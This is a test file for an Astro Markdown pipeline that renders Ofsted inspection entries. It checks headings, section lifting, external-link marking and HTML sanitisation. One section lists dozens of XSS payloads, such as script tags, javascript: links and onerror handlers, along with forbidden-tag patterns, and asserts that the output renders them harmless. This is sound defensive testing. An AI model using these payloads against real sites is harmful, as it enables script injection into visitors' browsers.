/**
 * The Markdown pipeline for entry bodies, run as Astro runs it: headings,
 * conventional sections, text blocks, external links, and a hostile body
 * rendered harmless.
 */
import { createMarkdownProcessor, type MarkdownRenderer } from '@astrojs/markdown-remark';
import path from 'node:path';
import { fromHtml } from 'hast-util-from-html';
import { toHtml } from 'hast-util-to-html';
import rehypeRaw from 'rehype-raw';
import { visit } from 'unist-util-visit';
import { beforeAll, describe, expect, it } from 'vitest';
import { loadContent } from '../../../src/lib/content/validate.ts';
import { entryMarkdownOptions, markdownBuildSettings, rehypeRawIfAny } from '../../../src/lib/markdown/pipeline.ts';
import { bodyHasText, sectionFor, splitAtSections, type EntrySections } from '../../../src/lib/markdown/rehype-entry-sections.ts';

let processor: MarkdownRenderer;

beforeAll(async () => {
  processor = await createMarkdownProcessor({ ...entryMarkdownOptions, ...markdownBuildSettings } as Parameters<typeof createMarkdownProcessor>[0]);
});

interface Rendered {
  html: string;
  sections: EntrySections;
  textBlocks: string[];
  headings: { depth: number; slug: string; text: string }[];
}

async function render(markdown: string): Promise<Rendered> {
  const result = await processor.render(markdown);
  const frontmatter = result.metadata.frontmatter as { entrySections: EntrySections; textBlocks: string[] };
  return {
    html: result.code,
    sections: frontmatter.entrySections,
    textBlocks: frontmatter.textBlocks,
    headings: result.metadata.headings,
  };
}

describe('headings', () => {
  it('get ids from their text', async () => {
    const { html, headings } = await render('## What inspectors found\n\nText.\n\n### Help and protection\n\nMore.\n');
    expect(html).toContain('<h2 id="what-inspectors-found">What inspectors found</h2>');
    expect(html).toContain('<h3 id="help-and-protection">Help and protection</h3>');
    expect(headings).toEqual([
      { depth: 2, slug: 'what-inspectors-found', text: 'What inspectors found' },
      { depth: 3, slug: 'help-and-protection', text: 'Help and protection' },
    ]);
  });

  it('an h1 is demoted to h2: the page title is the only h1', async () => {
    const { html, headings } = await render('# Letter from Ofsted\n\nText.\n\n<h1>Raw heading</h1>\n');
    expect(html).not.toMatch(/<h1/);
    expect(html).toContain('<h2 id="letter-from-ofsted">Letter from Ofsted</h2>');
    expect(html).toMatch(/<h2[^>]*>Raw heading<\/h2>/);
    expect(headings.every((h) => h.depth >= 2)).toBe(true);
  });

  it('an id written in raw HTML is prefixed so it cannot clobber the page\'s own ids', async () => {
    const { html } = await render('<h2 id="main">Heading</h2>\n');
    expect(html).not.toContain('id="main"');
    expect(html).toContain('id="user-content-main"');
  });
});

describe('conventional sections', () => {
  it('recognises the headings of the contract and their alternatives', () => {
    expect(sectionFor('Strengths')).toBe('strengths');
    expect(sectionFor('What is working well')).toBe('strengths');
    expect(sectionFor('Areas for improvement')).toBe('improvements');
    expect(sectionFor('What needs to improve')).toBe('improvements');
    expect(sectionFor('What needs to improve:')).toBe('improvements');
    expect(sectionFor('  AREAS   FOR DEVELOPMENT. ')).toBe('improvements');
    expect(sectionFor('Next steps')).toBe('nextSteps');
    expect(sectionFor('Key next steps')).toBe('nextSteps');
    expect(sectionFor('Strengths and weaknesses')).toBeUndefined();
    expect(sectionFor('Summary')).toBeUndefined();
  });

  it('lifts the lists out of the body', async () => {
    const { html, sections } = await render(
      [
        'Inspectors found that too many children waited too long for help.',
        '',
        '## Strengths',
        '',
        '- Leaders know their services well',
        '- Staff morale is *good*',
        '',
        '## Areas for improvement',
        '',
        '- Management oversight of child in need plans',
        '- Recruitment and retention of permanent social workers',
        '',
        '## Next steps',
        '',
        '1. Review the front door',
        '2. Audit plans',
        '',
      ].join('\n'),
    );
    expect(sections).toEqual({
      strengths: ['Leaders know their services well', 'Staff morale is <em>good</em>'],
      improvements: ['Management oversight of child in need plans', 'Recruitment and retention of permanent social workers'],
      nextSteps: ['Review the front door', 'Audit plans'],
    });
    expect(splitAtSections(html).opening.trim()).toBe('<p>Inspectors found that too many children waited too long for help.</p>');
    expect(splitAtSections(html).rest.trim()).toBe('');
  });

  it('"What needs to improve" is the areas for improvement', async () => {
    const { sections, html } = await render('## What needs to improve\n\n- The quality of assessments\n');
    expect(sections).toEqual({ improvements: ['The quality of assessments'] });
    expect(splitAtSections(html)).toEqual({ opening: '', rest: '' });
  });

  it('unwraps the paragraphs of a loose list', async () => {
    const { sections } = await render('## Strengths\n\n- First strength\n\n- Second **strength**\n\n- Third\n');
    expect(sections.strengths).toEqual(['First strength', 'Second <strong>strength</strong>', 'Third']);
  });

  it('keeps a loose item of two paragraphs as both paragraphs', async () => {
    const { sections } = await render('## Strengths\n\n- First para\n\n  Second para\n\n- Next\n');
    expect(sections.strengths?.[0]).toMatch(/^<p>First para<\/p>\s*<p>Second para<\/p>$/);
    expect(sections.strengths?.[1]).toBe('Next');
  });

  it('makes each paragraph under the heading an item', async () => {
    const { sections } = await render('## Next steps\n\nThe council should review its plans.\n\nLeaders should audit *more*.\n');
    expect(sections.nextSteps).toEqual(['The council should review its plans.', 'Leaders should audit <em>more</em>.']);
  });

  it('ends a section at the next heading that is not a section, which stays in the body', async () => {
    const { html, sections } = await render('## Strengths\n\n- One\n\n## Background\n\nHistory.\n');
    expect(sections).toEqual({ strengths: ['One'] });
    expect(html).toContain('<h2 id="background">Background</h2>');
    expect(html).toContain('<p>History.</p>');
    expect(html).not.toContain('One');
  });

  it('a "# Strengths" (h1, demoted) is a section; a "### Strengths" is not', async () => {
    expect((await render('# Strengths\n\n- One\n')).sections).toEqual({ strengths: ['One'] });
    const h3 = await render('### Strengths\n\n- One\n');
    expect(h3.sections).toEqual({});
    expect(h3.html).toContain('<h3 id="strengths">Strengths</h3>');
  });

  it('merges two sections of one kind, and keeps a block before the list as an item', async () => {
    const { sections } = await render('## Strengths\n\n- One\n\n## What is working well\n\n> A quotation\n\n- Two\n');
    expect(sections.strengths?.[0]).toBe('One');
    expect(sections.strengths?.[1]).toMatch(/^<blockquote>\s*<p>A quotation<\/p>\s*<\/blockquote>$/);
    expect(sections.strengths?.[2]).toBe('Two');
  });

  it('ends a section at a paragraph or quotation after its list, which stays in the body', async () => {
    const { sections, html } = await render('## Areas for improvement\n\n- Chronologies\n\n> The findings were accepted.\n\nThe council said the plan would change.\n');
    expect(sections).toEqual({ improvements: ['Chronologies'] });
    expect(html).toMatch(/<blockquote>\s*<p>The findings were accepted.<\/p>\s*<\/blockquote>/);
    expect(html).toContain('<p>The council said the plan would change.</p>');
  });

  it("marks where the sections stood: the author's opening before them, later text after them", async () => {
    const { html } = await render('The opening.\n\n## Strengths\n\n- One\n\nA comment on it.\n\n## Next steps\n\n- Two\n\n## Background\n\nHistory.\n');
    const { opening, rest } = splitAtSections(html);
    expect(opening).toBe('<p>The opening.</p>');
    expect(rest).toMatch(/^<p>A comment on it.<\/p>\s*<h2 id="background">Background<\/h2>\s*<p>History.<\/p>$/);
  });

  it('with no sections, all of the body is the opening', async () => {
    const { html } = await render('Just a paragraph.\n\n## Background\n\nHistory.\n');
    expect(splitAtSections(html)).toEqual({ opening: html.trim(), rest: '' });
  });

  it('says whether a body has text: either side of the sections, or in them', async () => {
    const says = async (markdown: string) => {
      const { html, sections } = await render(markdown);
      return bodyHasText(html, sections);
    };
    expect(await says('')).toBe(false);
    expect(await says('## Strengths\n\n<!-- a note -->\n')).toBe(false);
    expect(await says('## Strengths\n\n- One\n')).toBe(true);
    expect(await says('Text.\n\n## Strengths\n')).toBe(true);
    expect(await says('## Strengths\n\n## Background\n\nHistory.\n')).toBe(true);
  });

  it("an author's own HTML comment is removed, so it cannot split the body", async () => {
    const { html } = await render('Before.\n\n<!--entry-sections-->\n\nAfter.\n');
    expect(html).not.toContain('<!--');
    expect(splitAtSections(html).rest).toBe('');
  });

  it('no sections: nothing lifted, the body unchanged', async () => {
    const { sections, html } = await render('Just a paragraph.\n');
    expect(sections).toEqual({});
    expect(html.trim()).toBe('<p>Just a paragraph.</p>');
  });

  it('keeps the words of an item apart where two inline elements meet', async () => {
    // Control: a loose list item keeps the space.
    expect((await render('## Strengths\n\n- **Strong** *leadership*\n\n- x\n')).sections.strengths?.[0]).toBe(
      '<strong>Strong</strong> <em>leadership</em>',
    );
  });

  // BUG src/lib/markdown/rehype-entry-sections.ts:40: to find a loose list's single <p>, the
  // item's children are filtered of white-space text nodes, and that filtered list is also
  // what is printed. In a tight list the space between two inline elements is such a node,
  // so "- **Strong** *leadership*" becomes "<strong>Strong</strong><em>leadership</em>"
  // (shown "Strongleadership"), and "[a](x) [b](y)" runs the two links together. Use the
  // filtered list only to decide, and print li.children.
  it('tight list: the space between two inline elements is kept', async () => {
    const { sections } = await render('## Strengths\n\n- **Strong** *leadership*\n- [Report](https://example.org/r) [letter](/l/)\n');
    expect(sections.strengths?.[0]).toBe('<strong>Strong</strong> <em>leadership</em>');
    expect(sections.strengths?.[1]).toMatch(/<\/a> <a href="\/l\/">/);
  });
});

describe('text blocks for theme detection', () => {
  it('collects headings, paragraphs, list items and table cells, in order', async () => {
    const { textBlocks } = await render(
      ['Intro paragraph.', '', '## Findings', '', '- Tight item', '- Another', '', '| Area | Grade |', '|---|---|', '| Leadership | Good |', ''].join('\n'),
    );
    expect(textBlocks).toEqual(['Intro paragraph.', 'Findings', 'Tight item', 'Another', 'Area', 'Grade', 'Leadership', 'Good']);
  });

  it('collects text from sections too, and a loose item once (through its paragraph)', async () => {
    const { textBlocks } = await render('## Areas for improvement\n\n- Caseloads are high\n\n- Supervision is irregular\n');
    expect(textBlocks).toEqual(['Areas for improvement', 'Caseloads are high', 'Supervision is irregular']);
  });

  // BUG src/lib/markdown/rehype-entry-sections.ts:56: text blocks are read after
  // rehype-external-links has added its visually hidden " (external site)" span, so theme
  // evidence sentences (shown on the page as plain quotations) read "Read the letter
  // (external site) from Ofsted." Skip `.visually-hidden` when collecting text.
  it('does not include the hidden "(external site)" text of links', async () => {
    const { textBlocks } = await render('Read the [letter](https://example.org/l) from Ofsted.\n');
    expect(textBlocks).toEqual(['Read the letter from Ofsted.']);
  });

  it('collapses white space', async () => {
    const { textBlocks } = await render('A  paragraph\nover two lines.\n');
    expect(textBlocks).toEqual(['A paragraph over two lines.']);
  });
});

describe('links and images', () => {
  it('marks an external link with rel and a visually hidden "(external site)"', async () => {
    const { html } = await render('Read the [letter](https://reports.ofsted.gov.uk/provider/44/870).\n');
    expect(html).toBe(
      '<p>Read the <a href="https://reports.ofsted.gov.uk/provider/44/870" class="external" rel="noopener noreferrer">letter<span class="visually-hidden"> (external site)</span></a>.</p>',
    );
  });

  it('reads a written address as a browser would: another site is marked, a backslash or line break inside keeps only the words', async () => {
    const { html } = await render('<a href=" //elsewhere.example/a">spaced</a> <a href="/\\elsewhere.example/b">slash</a> <a href="\\\\elsewhere.example/c">share</a> <a href="/&#9;/elsewhere.example/d">tab</a>\n');
    expect(html).toBe(
      '<p><a href="//elsewhere.example/a" class="external" rel="noopener noreferrer">spaced<span class="visually-hidden"> (external site)</span></a> <a>slash</a> <a>share</a> <a>tab</a></p>',
    );
  });

  it('marks autolinks too, and leaves a bare address as text (full GFM autolinking is off for speed)', async () => {
    const { html } = await render('See http://example.org/a and <https://example.org/b>.\n');
    expect(html.match(/rel="noopener noreferrer"/g)).toHaveLength(1);
    expect(html.match(/<span class="visually-hidden"> \(external site\)<\/span>/g)).toHaveLength(1);
    expect(html).toContain('See http://example.org/a and <a href="https://example.org/b"');
  });

  it('puts each table in a frame that scrolls sideways, takes keyboard focus and says it scrolls', async () => {
    const { html } = await render('| Area | Grade |\n|---|---|\n| Overall | Good |\n');
    expect(html).toMatch(
      /^<section class="table-wrap" aria-label="Table 1" tabindex="0"><p class="scroll-hint" aria-hidden="true" data-pagefind-ignore="">Scroll sideways to see the whole table →<\/p><table>/,
    );
  });

  it('still renders tables and strikethrough', async () => {
    const { html } = await render('| Area | Grade |\n|---|---|\n| Overall | Good |\n\n~~withdrawn~~\n');
    expect(html).toContain('<table>');
    expect(html).toContain('<td>Good</td>');
    expect(html).toContain('<del>withdrawn</del>');
  });

  it('leaves a link within the site alone', async () => {
    const { html } = await render('See [the inspection](/councils/reading/2016-06-inspection/) and [below](#next-steps).\n');
    expect(html).toBe('<p>See <a href="/councils/reading/2016-06-inspection/">the inspection</a> and <a href="#next-steps">below</a>.</p>');
  });

  it('marks an address written behind a character reference or a backslash escape', async () => {
    // The pipeline skips marking for bodies with no "//", "http", "&" or "\\" in them; these have no "http:" as written.
    const expected = '<a href="http:example.org" class="external" rel="noopener noreferrer">';
    expect((await render('[a](&#104;ttp:example.org)')).html).toContain(expected);
    expect((await render('[a](http\\:example.org)')).html).toContain(expected);
  });

  it('keeps and marks an address whose scheme is in capitals, as browsers read it', async () => {
    const marked = (href: string, words: string) =>
      `<a href="${href}" class="external" rel="noopener noreferrer">${words}<span class="visually-hidden"> (external site)</span></a>`;
    expect((await render('[the letter](HTTPS://reports.ofsted.gov.uk/provider/44/870)')).html).toContain(marked('https://reports.ofsted.gov.uk/provider/44/870', 'the letter'));
    expect((await render('<a href="Http://example.org/Plan.PDF">plan</a>')).html).toContain(marked('http://example.org/Plan.PDF', 'plan'));
    expect((await render('![Chart](HTTPS://example.org/chart.png)')).html).toContain(marked('https://example.org/chart.png', 'Image: Chart'));
    expect((await render('[x](JAVASCRIPT:alert(1))')).html).toBe('<p><a>x</a></p>');
  });

  it('marks external links inside section items', async () => {
    const { sections } = await render('## Next steps\n\n- Read [the guidance](https://www.gov.uk/guidance)\n');
    expect(sections.nextSteps).toEqual([
      'Read <a href="https://www.gov.uk/guidance" class="external" rel="noopener noreferrer">the guidance<span class="visually-hidden"> (external site)</span></a>',
    ]);
  });

  it('turns an image on the web into a link to it, and any other image into its alt text; no <img>', async () => {
    const { html } = await render('![Chart of caseloads](https://example.org/chart.png)\n\n![Local](./chart.png)\n\n![](chart.png)\n');
    expect(html).not.toMatch(/<img/);
    expect(html).toContain('<a href="https://example.org/chart.png" class="external" rel="noopener noreferrer">Image: Chart of caseloads<span class="visually-hidden"> (external site)</span></a>');
    expect(html).toContain('<span>Image: Local</span>');
    expect(html).toContain('<span>Image</span>');
  });
});

describe('a hostile body is rendered harmless', () => {
  /** Each payload in its own block, so Markdown and raw HTML are both parsed as an attacker would write them. */
  const PAYLOADS: [string, string][] = [
    ['script', '<script>alert(1)</script>'],
    ['script with src', '<script src="https://evil.example/x.js"></script>'],
    ['iframe', '<iframe src="https://evil.example/"></iframe>'],
    ['srcdoc iframe', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['object', '<object data="https://evil.example/x.swf"></object>'],
    ['embed', '<embed src="https://evil.example/x.swf">'],
    ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
    ['svg with a javascript link', '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>'],
    ['math', '<math><mi xlink:href="javascript:alert(1)">m</mi></math>'],
    ['img onerror', 'Text <img src=x onerror=alert(1)> more'],
    ['remote img onerror', '<img src="https://evil.example/x.png" onerror="alert(1)" alt="pic">'],
    ['img javascript src', '<img src="javascript:alert(1)" alt="j">'],
    ['a href javascript', '<a href="javascript:alert(1)">click</a>'],
    ['a href entity-encoded javascript', '<a href="&#106;avascript:alert(1)">click</a>'],
    ['a href javascript with spaces and case', '<a href="  JaVaScRiPt:alert(1)">click</a>'],
    ['markdown javascript link', '[x](javascript:alert(1))'],
    ['markdown reference javascript link', '[x][evil]\n\n[evil]: javascript:alert(1)'],
    ['markdown vbscript link', '[x](vbscript:msgbox(1))'],
    ['markdown data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['markdown data image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
    ['html data link', '<a href="data:text/html,x">d</a>'],
    ['style attribute', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>'],
    ['style element', '<style>body { display: none }</style>'],
    ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['event handler on div', '<div onmouseover="alert(1)">hover</div>'],
    ['event handler on a safe link', '<a href="https://ok.example/" onclick="alert(1)">ok</a>'],
    ['event handler on details', '<details open ontoggle="alert(1)"><summary>s</summary>x</details>'],
    ['event handler on a heading', '<h2 onclick="alert(1)">Heading</h2>'],
    ['event handler on a table cell', '<table><tr><td onclick="alert(1)" background="javascript:alert(1)">c</td></tr></table>'],
    ['form', '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>'],
    ['input autofocus', '<input autofocus onfocus="alert(1)">'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['base href', '<base href="https://evil.example/">'],
    ['template', '<template><script>alert(1)</script></template>'],
    ['noscript', '<noscript><img src=x onerror=alert(1)></noscript>'],
    ['textarea breakout', '<textarea></textarea><script>alert(1)</script>'],
    ['video', '<video poster="x" onerror="alert(1)"><source src="x" onerror="alert(1)"></video>'],
    ['body onload', '<body onload="alert(1)">b</body>'],
    ['comment', '<!-- <script>alert(1)</script> -->'],
    ['blockquote cite', '<blockquote cite="javascript:alert(1)">q</blockquote>'],
    ['tabindex and accesskey', '<span tabindex="1" accesskey="x">t</span>'],
    ['markup escaped as entities after a closing tag', '</div>&lt;meta http-equiv="refresh" content="0;url=https://evil.example/"&gt;&lt;img src=x onerror=alert(1)&gt;'],
  ];

  const FORBIDDEN: [string, RegExp][] = [
    ['<script', /<script/i],
    ['<iframe', /<iframe/i],
    ['<object', /<object/i],
    ['<embed', /<embed/i],
    ['<svg', /<svg/i],
    ['<math', /<math/i],
    ['<img', /<img/i],
    ['<style', /<style/i],
    ['<link', /<link/i],
    ['<base', /<base/i],
    ['<meta', /<meta/i],
    ['<form', /<form/i],
    ['<input', /<input/i],
    ['<button', /<button/i],
    ['<textarea', /<textarea/i],
    ['<template', /<template/i],
    ['<video', /<video/i],
    ['<body', /<body/i],
    ['<!--', /<!--/],
    ['on*=', /\son[a-z]+\s*=/i],
    ['javascript:', /javascript:/i],
    ['vbscript:', /vbscript:/i],
    ['data:', /data:/i],
    ['style=', /style\s*=/i],
    ['srcdoc', /srcdoc/i],
    // The only tab stop allowed is the site's own frame round a table (its scrolling needs the keyboard).
    ['tabindex', /tabindex(?!="0"><p class="scroll-hint")/i],
    ['accesskey', /accesskey/i],
    ['xlink', /xlink/i],
    ['background=', /background\s*=/i],
    ['formaction', /formaction/i],
    ['http-equiv', /http-equiv/i],
  ];

  /** The markup alone: text, however it reads, is shown as text. */
  const markup = (html: string) => {
    const tree = fromHtml(html, { fragment: true });
    visit(tree, 'text', (_node, index, parent) => {
      parent!.children.splice(index!, 1);
      return index;
    });
    return toHtml(tree);
  };

  const harmless = (label: string, html: string) => {
    const tags = markup(html);
    for (const [name, pattern] of FORBIDDEN) {
      expect(tags, `${label} must not contain ${name}: ${html}`).not.toMatch(pattern);
    }
  };

  it.each(PAYLOADS)('%s', async (_label, payload) => {
    const { html, sections, textBlocks } = await render(`Before.\n\n${payload}\n\nAfter.\n`);
    harmless('body', html);
    expect(html).toContain('<p>Before.</p>');
    expect(html).toContain('<p>After.</p>');
    // A payload of several blocks (a link and its reference) goes in as blocks, not as one item.
    const asItem = payload.includes('\n') ? '' : `- Item ${payload}\n`;
    const inSection = await render(`## Strengths\n\n${payload}\n\n${asItem}`);
    harmless('section items', (inSection.sections.strengths ?? []).join('\n'));
    // The page shows the body in two parts, either side of the sections.
    const parts = splitAtSections(inSection.html);
    harmless('opening', parts.opening);
    harmless('rest of body', parts.rest);
    expect(sections).toEqual({});
    for (const block of textBlocks) expect(block).not.toMatch(/<script/i);
  });

  it('all at once, in the body and in every section', async () => {
    const all = PAYLOADS.map(([, p]) => p).join('\n\n');
    const oneLine = PAYLOADS.map(([, p]) => p).filter((p) => !p.includes('\n'));
    const markdown = [
      '# Letter',
      '',
      all,
      '',
      '## Strengths',
      '',
      ...oneLine.map((p) => `- ${p}`),
      '',
      '## Areas for improvement',
      '',
      all,
      '',
      '## Next steps',
      '',
      ...oneLine.map((p) => `1. ${p}`),
      '',
    ].join('\n');
    const { html, sections } = await render(markdown);
    harmless('opening', splitAtSections(html).opening);
    harmless('rest of body', splitAtSections(html).rest);
    for (const key of ['strengths', 'improvements', 'nextSteps'] as const) {
      expect(sections[key]?.length, key).toBeGreaterThan(0);
      harmless(key, sections[key]!.join('\n'));
    }
  });

  it('keeps the text of what it removes where that text is harmless', async () => {
    const { html } = await render('<a href="javascript:alert(1)">click</a>\n\n<p style="color:red" onclick="x()">styled</p>\n\n<div onmouseover="alert(1)">hover</div>\n');
    expect(html).toContain('<a>click</a>');
    expect(html).toContain('<p>styled</p>');
    expect(html).toContain('<div>hover</div>');
  });

  it('a javascript: autolink keeps its text but loses its href', async () => {
    const { html } = await render('<javascript:alert(1)>\n');
    expect(html).toBe('<p><a>javascript:alert(1)</a></p>');
    expect(html).not.toMatch(/href/);
  });

  it('a safe link keeps only its href, with the external marking', async () => {
    const { html } = await render('<a href="https://ok.example/" onclick="alert(1)" target="_blank" style="x">ok</a>\n');
    expect(html).toBe('<p><a href="https://ok.example/" class="external" rel="noopener noreferrer">ok<span class="visually-hidden"> (external site)</span></a></p>');
  });
});

describe('raw HTML is parsed only where a body holds some', () => {
  // The pipeline as it was: rehype-raw over every body.
  let alwaysRaw: MarkdownRenderer;
  beforeAll(async () => {
    const rehypePlugins = entryMarkdownOptions.rehypePlugins.filter((p) => !(Array.isArray(p) && p[0] === rehypeRaw)).map((p) => (p === rehypeRawIfAny ? rehypeRaw : p));
    alwaysRaw = await createMarkdownProcessor({ ...entryMarkdownOptions, rehypePlugins, ...markdownBuildSettings } as Parameters<typeof createMarkdownProcessor>[0]);
  });

  it('HTML written in a body is still made elements, then sanitised', async () => {
    const { html } = await render('Leaders were <strong>not</strong> told.<script>alert(1)</script>');
    expect(html).toBe('<p>Leaders were <strong>not</strong> told.</p>');
  });

  it('a body without HTML renders as it did through rehype-raw', async () => {
    const bodies = [
      '## Strengths\n\n- one\n- two\n\nText with *emphasis*, `code`, [a link](https://example.org/) and [another](/councils/reading/).',
      'Escaped: &lt;script&gt;alert(1)&lt;/script&gt; and &#60;b&#62; and \\<i\\>.\n\n> Quoted\n> text\n\n    indented code\n\n1. first\n2. second',
      '| Area | Grade |\n|---|---|\n| Overall | Good |\n\n~~struck~~ and a hard  \nbreak',
    ];
    for (const body of bodies) expect((await processor.render(body)).code).toBe((await alwaysRaw.render(body)).code);
  });

  it('every body in content/ renders as it did through rehype-raw', async () => {
    const { entries } = await loadContent(path.resolve(import.meta.dirname, '../../../content'));
    expect(entries.length).toBeGreaterThan(700);
    for (const { id, body } of entries) expect({ id, html: (await processor.render(body)).code }).toEqual({ id, html: (await alwaysRaw.render(body)).code });
  }, 60_000);
});
